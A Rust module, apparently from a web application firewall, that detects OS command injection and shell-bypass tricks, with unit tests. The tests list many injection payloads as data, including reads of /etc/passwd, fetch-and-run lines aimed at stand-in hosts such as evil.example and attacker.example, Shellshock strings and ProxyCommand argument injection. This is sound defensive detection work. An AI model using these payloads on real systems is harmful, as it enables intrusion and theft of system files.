//! OS command injection: a shell separator or substitution, then a command.
//!
//! Input: a normalized value (lower-case, blanks folded, newlines kept) and its byte classes.
//! Output: confirmed or suspicious. Confirmed when a separator (`;`, `|`, `||`, `&`, `&&`, a
//! newline) or the opening of a substitution (`$(`, a backtick) is followed by a command:
//! either one that only a shell runs (`whoami`, `uname`, `wget`, `nslookup`, `powershell`,
//! `/bin/sh`…), or a common word that is also a command (`id`, `ls`, `cat`, `ping`, `dir`…)
//! used the way a shell would: alone, or with an option, a path or an address after it
//! (`; id`, `| cat /etc/passwd`, `& ping -n 3 127.0.0.1`). Quote, backslash and caret splitting
//! of the command (`c'a't`, `w\hoami`, `who^ami`) and `${IFS}` for a blank are undone. Prose such as
//! "Tom & Jerry", "terms; id cards" or "rock | ping pong" stays unconfirmed; a backtick in a
//! sentence (Markdown code) only counts after a separator or at the value's start.
//!
//! An injection breaks out of the value the app expected: its first separator or substitution
//! comes at the value's start or right after one blank-free token (`127.0.0.1; id`, `a);id`,
//! `"|id|`, `x$(id)`), or the value is a Shellshock function (`() { :;};`); after such a breakout,
//! every later separator counts too. A command quoted in prose or Markdown comes after words
//! ("I tried `curl … | jq .` and then ; ls -la", "sudo apt update; cat /etc/os-release", a
//! fenced block's `\nrm -rf node_modules`), so there a common word (`ls`, `cat`, `grep`, `rm`…)
//! is only suspicious, and so is a command that only a newline separates; a command no one types
//! in prose (`whoami`, `wget`, `nslookup`…) after `;`, `|`, `&` or `$(` is confirmed wherever.
//! A cmd.exe `FOR %a IN (…) DO` loop after `&` or `|` (cmd's separators) is confirmed.

use super::classes::{self, Mask};

/// Commands no one types in prose: one after a separator is enough.
fn strong(w: &[u8]) -> bool {
    matches!(
        w,
        b"whoami" | b"uname" | b"ifconfig" | b"ipconfig" | b"wget" | b"nslookup" | b"netcat" | b"ncat" | b"powershell" |
        b"pwsh" | b"systeminfo" | b"tasklist" | b"certutil" | b"bitsadmin" | b"mkfifo" | b"busybox" | b"wscript" |
        b"cscript" | b"mshta" | b"rundll32" | b"regsvr32" | b"getent" | b"printenv" | b"sysinfo" | b"netstat" |
        b"usleep"
    )
}

/// Words that are also commands or words: they need a shell-like argument after them (or, after
/// `;`, `|` or `&`, nothing: `; id` ends the value).
fn weak(w: &[u8]) -> bool {
    matches!(
        w,
        b"id" | b"ls" | b"cat" | b"pwd" | b"ping" | b"echo" | b"dir" | b"type" | b"ver" | b"net" | b"env" | b"find" |
        b"head" | b"tail" | b"more" | b"less" | b"grep" | b"awk" | b"sed" | b"kill" | b"ps" | b"who" | b"set" |
        b"host" | b"touch" | b"cp" | b"mv" | b"tar" | b"ip" | b"su" | b"sudo" | b"xargs" | b"start" | b"call" |
        b"exec" | b"eval" | b"nohup" | b"time" | b"curl" | b"nc" | b"bash" | b"sh" | b"zsh" | b"ksh" | b"csh" |
        b"telnet" | b"chmod" | b"passwd" | b"perl" | b"python" | b"python3" | b"php" | b"ruby" | b"cmd" | b"base64" |
        b"xterm" | b"hostname" | b"dig" | b"gcc" | b"rm" | b"sleep" | b"uptime" | b"timeout" | b"tac" | b"xxd"
    )
}

/// Skips blanks and `${IFS}`-style blanks from `i` (any expansion of IFS: `${IFS%??}`,
/// `${IFS:0:1}`).
fn skip_blanks(s: &[u8], mut i: usize) -> usize {
    loop {
        let rest = &s[i.min(s.len())..];
        if i < s.len() && matches!(s[i], b' ' | b'\t') {
            classes::tick(1);
            i += 1;
        } else if let Some(k) = rest.strip_prefix(b"${ifs").and_then(|r| r.iter().take(16).position(|&b| b == b'}')) {
            i += 6 + k;
        } else if rest.starts_with(b"$ifs") {
            i += 4;
        } else {
            return i;
        }
    }
}

/// Reads the command word at `s[i..]`, dropping the quotes, backslashes and cmd.exe carets that
/// split it and a leading path (`/usr/bin/id` is `id`, `who^ami` is `whoami`). Returns the word
/// (at most 16 bytes) and where it ends.
fn command_word(s: &[u8], mut i: usize) -> ([u8; 16], usize, usize) {
    let mut w = [0u8; 16];
    let mut n = 0;
    let start = i;
    while i < s.len() && i - start < 64 {
        match s[i] {
            b'\'' | b'"' | b'\\' => {}
            // cmd.exe's escape, inside a word only (`who^ami`; `a;^ls` is no command).
            b'^' if i > start && s[i - 1].is_ascii_alphabetic() && s.get(i + 1).is_some_and(u8::is_ascii_alphabetic) => {}
            b'/' => n = 0,
            b @ (b'a'..=b'z' | b'0'..=b'9' | b'.' | b'_' | b'-') => {
                if n == w.len() {
                    return (w, 0, i);
                }
                w[n] = b;
                n += 1;
            }
            _ => break,
        }
        i += 1;
    }
    (w, n, i)
}

/// What follows a weak command word looks like shell arguments: nothing, another separator or a
/// redirection, or after a blank (`${IFS}` too) an option, a path, a variable, or a
/// number/address. Hugging the word, those are one more random character of a password
/// (`;w$NiM`, `|W*'E`), not an argument.
fn shell_argument(s: &[u8], end: usize, may_end: bool) -> bool {
    let j = skip_blanks(s, end);
    match s.get(j) {
        None => may_end,
        Some(b'\n' | b';' | b'|' | b'&' | b'>' | b'<' | b'`' | b')' | b'#') => true,
        // An unset variable hugging the word expands to nothing (`cat$u /etc/passwd`, `id$9`).
        Some(b'$') if j == end => {
            let name = s[j + 1..].iter().take(32).take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'@')).count();
            name > 0 && s.get(j + 1 + name).is_none_or(|&b| matches!(b, b' ' | b'\t' | b'\n' | b';' | b'|' | b'&'))
        }
        Some(b'-' | b'/' | b'.' | b'$' | b'~' | b'%' | b'\\' | b'*') => j > end,
        Some(b'0'..=b'9') => j > end,
        Some(b'c') => s[j..].starts_with(b"c:\\") || s[j..].starts_with(b"c:/"),
        Some(b'h' | b'f') => [&b"http://"[..], b"https://", b"ftp://"].iter().any(|p| s[j..].starts_with(p)),
        _ => false,
    }
}

/// Whether the command at `s[i..]` is one. Returns (confirmed, suspicious). `weak_ok`: a weak
/// word may count (not when a word hugs an `&`, as in a URL's query); `may_end`: the value may end
/// right after it.
fn command_at(s: &[u8], i: usize, weak_ok: bool, may_end: bool) -> (bool, bool) {
    classes::tick(64);
    let i = skip_blanks(s, i);
    let (w, n, end) = command_word(s, i);
    if n == 0 {
        return (false, false);
    }
    let word = &w[..n];
    let word = word.strip_suffix(b".exe").unwrap_or(word);
    if strong(word) {
        return (s.get(end).is_none_or(|&b| !b.is_ascii_alphanumeric()), true);
    }
    if weak(word) {
        return (weak_ok && shell_argument(s, end, may_end), true);
    }
    (false, false)
}

/// A value that is an option making a program run a command, for an app that passes it as an
/// argument (`ssh -oProxyCommand=…`, `git clone --upload-pack=…`): argument injection, or a
/// deploy tool's setting.
fn argument_injection(s: &[u8]) -> bool {
    let t = s.trim_ascii_start();
    [&b"-oproxycommand="[..], b"-o proxycommand=", b"--upload-pack=", b"--receive-pack=", b"-u upload-pack=", b"--config=core.sshcommand="].iter().any(|o| t.starts_with(o))
}

/// Bash's brace expansion as a command line with no blank (`{cat,/etc/passwd}`, `{id,}`):
/// `{`, a command word, `,`, its arguments, `}`.
fn brace_command(s: &[u8], i: usize) -> bool {
    let i = skip_blanks(s, i);
    if s.get(i) != Some(&b'{') {
        return false;
    }
    let (w, n, end) = command_word(s, i + 1);
    let word = &w[..n];
    // Its first argument as a shell's: none, an option, a path, a variable (a script's object
    // shorthand `{id, name}` or `{type,payload}` has a name there).
    let argument = matches!(s.get(end + 1), Some(b'}' | b',' | b'-' | b'/' | b'$' | b'~'));
    s.get(end) == Some(&b',') && argument && (strong(word) || weak(word)) && s[end..(end + 256).min(s.len())].contains(&b'}')
}

/// Whether the command at `s[i..]` is a [`strong`] one.
fn strong_at(s: &[u8], i: usize) -> bool {
    let (w, n, _) = command_word(s, skip_blanks(s, i));
    let word = &w[..n];
    strong(word.strip_suffix(b".exe").unwrap_or(word))
}

/// Whether `s[i..]` (after blanks) is a program named by its absolute path, as injections name
/// one to dodge word lists: under a binary directory (`/bin/cat`, `/usr/bin/id`) or behind glob
/// characters (`/bin/ca?`, `/???/c?t`), then the value's end, a blank or a separator. Only read
/// after a separator that breaks out of the value's first word (a cron line in a hosting panel
/// names `/usr/bin/php` too).
fn binary_path(s: &[u8], i: usize) -> bool {
    let j = skip_blanks(s, i);
    let Some(path) = s.get(j..).filter(|p| p.first() == Some(&b'/')) else { return false };
    let len = path.iter().take(64).take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'?' | b'*' | b'.' | b'_' | b'-')).count();
    if path.get(len).is_some_and(|&b| !matches!(b, b' ' | b'\t' | b';' | b'|' | b'&' | b'>' | b'<' | b'`' | b')')) {
        return false;
    }
    let path = &path[..len];
    let Some(name_at) = path.iter().rposition(|&b| b == b'/').filter(|&k| k > 0 && k + 1 < path.len()) else { return false };
    let (dir, name) = (&path[..name_at], &path[name_at + 1..]);
    let globbed = |x: &[u8]| x.iter().any(|&b| matches!(b, b'?' | b'*'));
    let binary_dir = [&b"/bin"[..], b"/sbin", b"/usr/bin", b"/usr/sbin", b"/usr/local/bin"].contains(&dir);
    // A glob of a binary is short: `/???/c?t`, not a URL path's `/*/` wildcard.
    // A glob of a binary names no file type (`/static/*.css` is a route pattern).
    (binary_dir && name.iter().any(u8::is_ascii_alphabetic)) || (globbed(path) && !name.contains(&b'.') && dir.len() <= 8 && name.len() <= 8 && name.iter().any(|&b| b.is_ascii_alphabetic() || b == b'?'))
}

/// Whether `s[i..]` is a cmd.exe `FOR` loop: `for` (after blanks, cmd's `@` and `(`, carets
/// undone), its switches (`/f "tokens=1"`, `/l`), a `%` variable, `in (…) do`. The `%` marks
/// cmd.exe; other languages' `for x in (…) do` name a bare variable.
fn windows_for(s: &[u8], i: usize) -> bool {
    let i = i + s[i.min(s.len())..].iter().take(8).take_while(|&&b| matches!(b, b' ' | b'\t' | b'@' | b'(')).count();
    let (w, n, end) = command_word(s, i);
    if &w[..n] != b"for" {
        return false;
    }
    let mut j = skip_blanks(s, end);
    for _ in 0..4 {
        match s.get(j) {
            Some(b'/') if s.get(j + 1).is_some_and(u8::is_ascii_alphabetic) => j = skip_blanks(s, j + 2),
            Some(b'"') => match classes::find_byte(b'"', &s[j + 1..(j + 65).min(s.len())]) {
                Some(k) => j = skip_blanks(s, j + k + 2),
                None => return false,
            },
            _ => break,
        }
    }
    let percents = s[j.min(s.len())..].iter().take(2).take_while(|&&b| b == b'%').count();
    let name = s[(j + percents).min(s.len())..].iter().take(32).take_while(|b| !matches!(b, b' ' | b'\t')).count();
    j = skip_blanks(s, j + percents + name);
    percents > 0 && name > 0 && s[j.min(s.len())..].starts_with(b"in") && {
        let open = skip_blanks(s, j + 2);
        s.get(open) == Some(&b'(')
            && classes::find_byte(b')', &s[open..(open + 256).min(s.len())]).is_some_and(|k| {
                let d = skip_blanks(s, open + k + 1);
                s[d.min(s.len())..].starts_with(b"do") && s.get(d + 2).is_none_or(|&b| matches!(b, b' ' | b'\t' | b'(' | b'@'))
            })
    }
}

/// Whether the backtick at `s[i]`, in the token that starts at `s[start]`, opens a substitution
/// that hugs the token: a letter or digit before it, and the value's end or more of the token
/// after its closing backtick. A `+` before it is a form-encoded blank the deep decoding kept
/// (`The+`id`+field`), and `[`Set`][]` is a Markdown link.
fn inside_token(s: &[u8], start: usize, i: usize) -> bool {
    s[i - 1].is_ascii_alphanumeric()
        && !s[start..i].contains(&b'+')
        && classes::find_byte(b'`', &s[i + 1..]).is_some_and(|k| s.get(i + k + 2).is_none_or(|&b| !matches!(b, b' ' | b'\t' | b'\n')))
}

/// Looks for command injection in a normalized value. Returns (confirmed, suspicious).
pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
    use classes::{AMP, BACKTICK, DOLLAR, EQ, NEWLINE, PERCENT, PIPE, SEMI};
    // DevOps tools take such options on purpose (`-o ProxyCommand=ssh -W %h:%p bastion`): a
    // near miss, which keeps a WAF's denial.
    let mut suspicious = mask & EQ != 0 && argument_injection(s);
    if mask & (SEMI | PIPE | AMP | NEWLINE | BACKTICK | DOLLAR | PERCENT) == 0 {
        return (false, suspicious);
    }
    // Where the second word of the value starts: a trigger up to there follows at most one token.
    let start = s.iter().position(|&b| !matches!(b, b' ' | b'\t' | b'\n')).unwrap_or(s.len());
    let first_blank = s[start..].iter().position(|&b| matches!(b, b' ' | b'\t' | b'\n')).map_or(s.len(), |k| start + k);
    let second_word = s[first_blank..].iter().position(|&b| !matches!(b, b' ' | b'\t' | b'\n')).map_or(s.len(), |k| first_blank + k);
    classes::tick(second_word);
    // A Markdown fence is no shell syntax: a value that opens with one is a document.
    let fenced = classes::contains(&s[start..first_blank], b"```");
    let mut broken_out = s[start..].starts_with(b"() {");
    // Shellshock (CVE-2014-6271 and its variants): a value that opens a bash function definition
    // and closes it is the exploit itself, whatever command follows (`() { :;}; echo x`).
    if broken_out && s[start..].iter().take(64).any(|&b| b == b'}') {
        return (true, true);
    }
    // A cmd.exe loop chained after a command with cmd's own separators (`x & for /f …`): a batch
    // file's lines, pasted, start with theirs.
    if mask & PERCENT != 0 && memchr::memchr2_iter(b'&', b'|', s).any(|i| windows_for(s, i + 1)) {
        return (true, true);
    }
    let candidates = memchr::memchr3_iter(b';', b'|', b'&', s).chain(memchr::memchr3_iter(b'\n', b'$', b'`', s));
    for i in candidates {
        let b = s[i];
        let after = match b {
            b';' | b'|' | b'&' | b'\n' => i + 1 + usize::from(matches!(s.get(i + 1), Some(b'|' | b'&'))),
            b'$' if s.get(i + 1) == Some(&b'(') => i + 2,
            // A backtick at the start, after a separator, blank or quote, or a substitution
            // inside the first token (`a`sleep 5`5`, `x`id``): not Markdown prose, whose code
            // spans follow words and end before a blank.
            b'`' if i == 0 || matches!(s[i - 1], b';' | b'|' | b'&' | b'\'' | b'"' | b'(' | b'=' | b'\n') || (i < first_blank && !fenced && inside_token(s, start, i)) => i + 1,
            b'`' => {
                suspicious |= command_at(s, i + 1, true, false).1;
                continue;
            }
            _ => continue,
        };
        broken_out |= i <= second_word && !fenced;
        // A single `&` hugged by words (`a=1&cat=2`) is a query string, not a separator.
        let hugged = b == b'&' && after == i + 1 && i > 0 && s[i - 1].is_ascii_alphanumeric() && s.get(after).is_some_and(u8::is_ascii_alphanumeric);
        if broken_out && !hugged && b != b'\n' && binary_path(s, after) {
            return (true, true);
        }
        if !hugged && b != b'\n' && brace_command(s, after) {
            return (true, true);
        }
        let (c, sus) = command_at(s, after, !hugged && broken_out, b != b'\n');
        if c && (broken_out || (b != b'\n' && strong_at(s, after))) {
            return (true, true);
        }
        suspicious |= sus;
    }
    // A loop that opens the value is a batch file's line, or the whole payload a WAF stops.
    suspicious |= mask & PERCENT != 0 && windows_for(s, start);
    suspicious |= classes::contains(s, b"/bin/sh") || classes::contains(s, b"${ifs}");
    (false, suspicious)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd(s: &str) -> (bool, bool) {
        let lower = s.to_ascii_lowercase();
        detect(lower.as_bytes(), classes::mask(lower.as_bytes()))
    }

    #[test]
    fn separators_and_substitutions_then_a_command_are_confirmed() {
        for p in [
            "; id",
            "1;id",
            "| cat /etc/passwd",
            "x || whoami",
            "a && whoami",
            "$(whoami)",
            "`id`",
            "127.0.0.1\nls -la",
            "& dir c:\\",
            "127.0.0.1 & who^ami",
            "x | n^etst^at -an",
            "| type c:\\windows\\win.ini",
            "; powershell -enc SQBFAFgA",
            "1;cat${IFS}/etc/passwd",
            ";c'a't /etc/passwd",
            "| /usr/bin/id",
            "& ping -n 3 127.0.0.1 &",
            "; sleep 5",
            ";{cat,/etc/passwd}",
            "127.0.0.1;{curl,-s,evil.example/s}|{bash,}",
            "|{id,}",
            ";tac /etc/passwd",

            "|nslookup x.attacker.example",
            "$(curl http://x.example/s.sh|sh)",
            "; ls",
            "127.0.0.1; id",
            "a);id",
            "test*; ls -lhtR /var/www/",
            "www.example.com;cat /etc/${a}passwd",
            "http://x.example/upload.php;lwp-download http://x.example/a.jpg;wget http://x.example/b",
            "() { :;}; echo; echo; echo $(/bin/cat /etc/passwd)",
            "1\nenv;",
            "Ran: the nightly job; wget http://attacker.example/x.sh",
            "a`sleep 60`5",
            "x | for /l %variable in (1,1,2) do command",
            "& FOR %/ IN (a,b,c) DO cmd",
            "x & for /f \"tokens=1\" %%a in ('whoami') do echo %%a",
            "a&&FOR /L /L /L     %a IN (start,step,end) DO abc",
            // cmd's echo-off `@`, a group's `(` and carets around the loop (a red team's bypasses).
            "x & @for /f %i in (whoami) do echo %i",
            "x & (for /f %i in (whoami) do echo %i)",
            "x & f^or /f %i in (whoami) do@echo %i",
            "x`id`",
        ] {
            assert!(cmd(p).0, "{p}");
        }
    }

    /// Random passwords (all printable characters, as password managers make them) hold a
    /// separator before a letter now and then: 0.41% of 100,000 were confirmed, mostly `w`, a
    /// command no payload list here uses, with a random character hugging it as its "argument".
    #[test]
    fn random_passwords_are_no_commands_and_hugged_arguments_need_a_blank() {
        for t in ["??1;w$NiM=g}9|'aW37k@5wCnHD?epQ_", "J1o&,2k7H!T-PI;w", "|W*'EM&C&Hb~1@/S", "Mnafy8:[h#(;W;s=]`_/^kBf", "x;ls*q"] {
            assert!(!cmd(t).0, "{t}");
        }
        for p in ["x;cat${IFS}/etc/passwd", "1;ls -la", "a|cat</etc/passwd", "1;id;", "x|id"] {
            assert!(cmd(p).0, "{p}");
        }
    }

    #[test]
    fn prose_with_separators_stays_unconfirmed() {
        for t in [
            "Tom & Jerry",
            "terms & conditions; id cards accepted",
            "rock | ping pong",
            "Q&A session; type your question",
            "run `ls -la` in the folder",
            "a=1&b=2&cat=shoes",
            "Meet me at 5; more later",
            "Salt & pepper",
            "a; {red,green} or blue",
            "return u && {id, name: u.name}",
            "const action = payload && {type,payload}",
            "const opts = props.opts || {id,...defaults}",
            "see {tail, head}; pick one",
            "## Steps\n1. run `npm i`\n2. `cat package.json | grep version`\n```sh\nrm -rf node_modules && npm ci\n```\n> works on my machine :)",
            "I tried `curl -s https://api.example.com/v1/me | jq .` and then ; ls -la ~/.config and nothing",
            "sudo apt update; cat /etc/os-release",
            "Ran: sudo systemctl restart nginx; cat /var/log/nginx/error.log | tail -n 50",
            "```sh\nrm -rf node_modules\n```",
            "Output of the check:\nuname -a\nLinux box 6.1",
            "it`s fine, don`t sleep 5 minutes",
            "use`ls -la` and `cat x` there",
            "```powershell\n$env:DEBUG='app:*'; node app.js\n```",
            "The+`id`+field+is+empty",
            "[`Set`][] instance.",
            "for i in (1..3) do puts i end",
            "50% for all in (the) store do come",
            "I paid for %20 in (cash) do you see it",
            "for %%a in (%*) do (",
            "Got 15% off; for %s in (sales) do check",
            "a;^ls -la",
            "x|^cat /etc/x",
            "2^10 & x^2 | y^3; id^2",
        ] {
            assert!(!cmd(t).0, "{t}");
        }
    }

    #[test]
    fn options_that_run_a_command_are_suspicious() {
        for t in ["-oProxyCommand=touch /tmp/pwned", "-o ProxyCommand=ssh -W %h:%p bastion.acme.io", "--upload-pack=touch /tmp/pwned"] {
            assert_eq!(cmd(t), (false, true), "{t}");
        }
    }

    #[test]
    fn a_cmd_loop_that_opens_the_value_is_suspicious() {
        for t in ["for /f \"usebackq\" %variable in (`command`) do command", "FOR /F \"options\" %a IN (\"text\") DO abc", "for %%a in (%*) do ("] {
            assert_eq!(cmd(t), (false, true), "{t}");
        }
        for t in ["for i in (1..3) do puts i end", "I paid for %20 in (cash) do you see it"] {
            assert_eq!(cmd(t), (false, false), "{t}");
        }
    }

    #[test]
    fn programs_named_by_path_or_glob_after_a_separator_are_confirmed() {
        for p in ["www.google.com;/bin/ca? /et*/passwd", "x| /usr/bin/id", "a; /???/c?t /e??/p??swd", "1&& /bin/sh -c id"] {
            assert_eq!(cmd(p), (true, true), "{p}");
        }
        for t in ["see a;/b", "docs; /api/v1/users", "x | /products/*/reviews/all-of-them", "Tom & /bin folder", "| /static/*.css | 1 year |", "Exclude: /admin/*; /api/*.json", "cd /home/u/app && /usr/bin/php artisan schedule:run"] {
            assert!(!cmd(t).0, "{t}");
        }
    }

    #[test]
    fn shellshock_is_confirmed() {
        for p in ["() { :;}; echo vulnerable", "() { _; } >_[$($())] { id; }", " () { :; }; /bin/bash -c id"] {
            assert_eq!(cmd(p), (true, true), "{p}");
        }
        assert!(!cmd("(a) { b }").0);
    }

    #[test]
    fn markdown_code_is_only_suspicious() {
        assert_eq!(cmd("run `ls -la` in the folder"), (false, true));
    }
}
